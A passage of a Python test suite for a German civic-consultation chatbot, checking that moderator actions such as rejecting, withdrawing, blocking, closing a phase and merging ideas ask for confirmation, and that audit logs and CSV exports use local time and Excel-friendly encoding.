    moderator = mod.citizen(MOD_A)
    sent = len(moderator.user.messages)
    await moderator.press("Freigeben", message_id=card_for(moderator, 1).message_id)
    # The oldest pending card comes again, at the bottom of the chat: one, not the queue.
    [following] = moderator.user.messages[sent:]
    assert "Impuls #2" in following.text and "✅ Freigeben" in following.button_texts
    await moderator.press("Ablehnen", message_id=following.message_id)
    await moderator.press("Werbung oder Spam", message_id=following.message_id)
    await moderator.press("Ja, ablehnen", message_id=following.message_id)
    assert len(moderator.user.messages) == sent + 1  # nothing pending: no card follows
    assert "abgelehnt" in card_for(moderator, 2).text


async def test_a_reject_reason_is_confirmed_first(mod: Harness) -> None:
    author = mod.citizen(5510)
    await author.take_part(["Sport & Events"], impulse="Mehr Sportplätze in Herne öffnen")
    moderator = mod.citizen(MOD_A)
    card = card_for(moderator, 1)
    told = len(author.user.messages)
    await moderator.press("Ablehnen", message_id=card.message_id)
    await moderator.press("passt nicht zum Thema", message_id=card.message_id)
    asked = card_for(moderator, 1)
    assert "Ablehnen mit dem Grund „passt nicht zum Thema“?" in asked.text
    assert asked.button_texts == ["Ja, ablehnen", "Abbrechen"]
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["pending"]
    await moderator.press("Abbrechen", message_id=card.message_id)
    assert card_for(moderator, 1).button_texts[:2] == ["✅ Freigeben", "❌ Ablehnen"]
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["pending"]
    assert len(author.user.messages) == told  # nothing reached the author
    await moderator.press("Ablehnen", message_id=card.message_id)
    await moderator.press("passt nicht zum Thema", message_id=card.message_id)
    await moderator.press("Ja, ablehnen", message_id=card.message_id)
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["rejected"]
    assert "passt nicht zum Thema" in author.last_text


async def test_a_withdrawal_is_confirmed_first(mod: Harness) -> None:
    author, moderator, card = await approved_card(mod, 5511, "Freibäder im Sommer länger öffnen")
    told = len(author.user.messages)
    await moderator.press("Zurückziehen", message_id=card)
    assert "passt nicht zum Thema" in card_for(moderator, 1).button_texts  # a reason first
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["approved"]
    await moderator.press("passt nicht zum Thema", message_id=card)
    asked = card_for(moderator, 1)
    assert "Zurückziehen?" in asked.text and "Grund: passt nicht zum Thema" in asked.text
    assert asked.button_texts == ["Ja, zurückziehen", "Abbrechen"]
    await moderator.press("Abbrechen", message_id=card)
    assert "⬇️ Zurückziehen" in card_for(moderator, 1).button_texts
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["approved"]
    assert len(author.user.messages) == told
    await moderator.press("Zurückziehen", message_id=card)
    await moderator.press("passt nicht zum Thema", message_id=card)
    await moderator.press("Ja, zurückziehen", message_id=card)
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["removed"]
    assert "zurückgezogen" in author.last_text and "passt nicht zum Thema" in author.last_text


async def test_blocking_from_a_card_is_confirmed_first(mod: Harness) -> None:
    author = mod.citizen(5512)
    await author.take_part(["Kunst & Kreativität"], impulse="Ateliers in leeren Ladenlokalen")
    moderator = mod.citizen(MOD_A)
    card = card_for(moderator, 1).message_id
    await moderator.press("Autor sperren", message_id=card)
    assert "Impuls #1 sperren?" in card_for(moderator, 1).text
    await moderator.press("Abbrechen", message_id=card)
    assert (await export(mod))["participants"] == 1
    assert "🚫 Autor sperren" in card_for(moderator, 1).button_texts
    await moderator.press("Autor sperren", message_id=card)
    await moderator.press("Ja, sperren", message_id=card)
    assert (await export(mod))["participants"] == 0
    assert "Entsperren" in card_for(moderator, 1).button_texts


async def test_the_block_command_shows_the_idea_and_asks_first(mod: Harness) -> None:
    author = mod.citizen(5513)
    await author.take_part(["Kunst & Kreativität"], impulse="Ateliers in leeren Ladenlokalen")
    moderator = mod.citizen(MOD_A)
    await moderator.send("/block 1")
    assert "Ateliers in leeren Ladenlokalen" in moderator.last_text
    assert moderator.buttons() == ["Ja, sperren", "Abbrechen"]
    assert (await export(mod))["participants"] == 1
    await moderator.press("Abbrechen")
    assert "Nicht gesperrt" in moderator.last_text and moderator.buttons() == []
    assert (await export(mod))["participants"] == 1
    await moderator.send("/block 1")
    await moderator.press("Ja, sperren")
    assert (await export(mod))["participants"] == 0
    await moderator.send("/unblock 1")  # the undo runs at once
    assert (await export(mod))["participants"] == 1


async def test_closing_the_phase_is_confirmed_and_phase_alone_says_where_we_are(
    mod: Harness,
) -> None:
    moderator = mod.citizen(MOD_A)
    await moderator.send("/phase")
    assert "ist geöffnet" in moderator.last_text and "/phase close" in moderator.last_text
    await moderator.send("/phase close")
    assert "schließen?" in moderator.last_text
    assert moderator.buttons() == ["Ja, schließen", "Abbrechen"]
    await moderator.press("Abbrechen")
    await moderator.send("/phase")
    assert "ist geöffnet" in moderator.last_text
    await moderator.send("/phase close")
    await moderator.press("Ja, schließen")
    await moderator.send("/phase")
    assert "ist geschlossen" in moderator.last_text and "/phase open" in moderator.last_text
    citizen = mod.citizen(5514)
    await citizen.send("/start")
    assert "abgeschlossen" in citizen.last_text
    await moderator.send("/phase open")  # the undo: at once
    await moderator.send("/phase")
    assert "ist geöffnet" in moderator.last_text


async def test_audit_and_export_names_in_local_time_and_words(
    emulator: BotApiEmulator, database_url: str
) -> None:
    # 10:00 UTC is 11:00 in the consultation's time zone (Europe/Berlin).
    clock = FakeClock(datetime(2026, 12, 3, 10, 0, tzinfo=UTC))
    emulator.user(MOD_B, first_name="Bernd", language_code="en")
    mod = await start_harness(emulator, database_url, clock=clock)
    try:
        assert mod.settings.digest_timezone == "Europe/Berlin"
        _author, moderator, _card = await approved_card(mod, 5515, "Mehr Trinkbrunnen in Parks")
        await moderator.send("/phase close")
        await moderator.press("Ja, schließen")
        await moderator.send("/audit")
        log = moderator.last_text
        assert "03.12.2026, 11:00 · Sie · freigegeben · Impuls #1" in log
        assert "Phase geändert – geschlossen" in log
        assert "approve" not in log and "impulse:" not in log and "10:00" not in log
        english = mod.citizen(MOD_B)
        await english.send("/audit")
        assert "3 Dec 2026, 11:00 · Anna · approved · Idea #1" in english.last_text
        await moderator.send("/export")
        [message] = [m for m in moderator.user.messages if m.document is not None]
        assert message.filename == "dialogbot-export-2026-12-03_11-00.zip"
        assert all("2026-12-03_11-00" in name for name in exported_files(moderator))
    finally:
        await mod.bot.stop()


async def test_csv_files_open_in_german_excel(mod: Harness) -> None:
    for n, topics in enumerate([["Sport & Events", "Mobilität & ÖPNV"], ["Sport & Events"]]):
        await mod.citizen(5520 + n).take_part(topics, impulse=f"Idee Nummer {n} für alle")
    moderator = mod.citizen(MOD_A)
    await moderator.send("/export")  # one message, one file
    files = exported_files(moderator)
    tables = {name.split("-")[0]: data for name, data in files.items() if name.endswith(".csv")}
    assert set(tables) == {"stimmen", "impulse", "themen"}
    for data in tables.values():
        assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not cp1252
    topics = tables["themen"].decode("utf-8-sig").splitlines()
    assert topics[0] == "rank;id;title;votes;share"
    assert "1;sport;Sport & Events;2;1,0" in topics
    assert "2;mobilitaet;Mobilität & ÖPNV;1;0,5" in topics
    assert read_csv(tables["impulse"].decode())[0]["text"] == "Idee Nummer 0 für alle"


async def test_merging_duplicates_is_confirmed_first(mod: Harness) -> None:
    for n, idea in enumerate(["Freibäder im Sommer länger öffnen", "Freibäder abends länger auf"]):
        await mod.citizen(5530 + n).take_part(["Sport & Events"], impulse=idea)
    moderator = mod.citizen(MOD_A)
    await moderator.send("/merge 2 1")
    assert "Freibäder abends länger auf" in moderator.last_text
    assert "#2 mit #1 zusammenführen?" in moderator.last_text
    assert moderator.buttons() == ["Ja, zusammenführen", "Abbrechen"]
    await moderator.press("Abbrechen")
    assert "Nicht zusammengeführt" in moderator.last_text and moderator.buttons() == []
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["pending", "pending"]
    await moderator.send("/merge 2 1")
    await moderator.press("Ja, zusammenführen")
    assert "ist jetzt mit #1 zusammengeführt" in moderator.last_text
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["pending", "merged"]
    await moderator.send("/merge 2 1")  # nothing left to merge: said at once, nothing asked
    assert "kann nicht" in moderator.last_text and moderator.buttons() == []
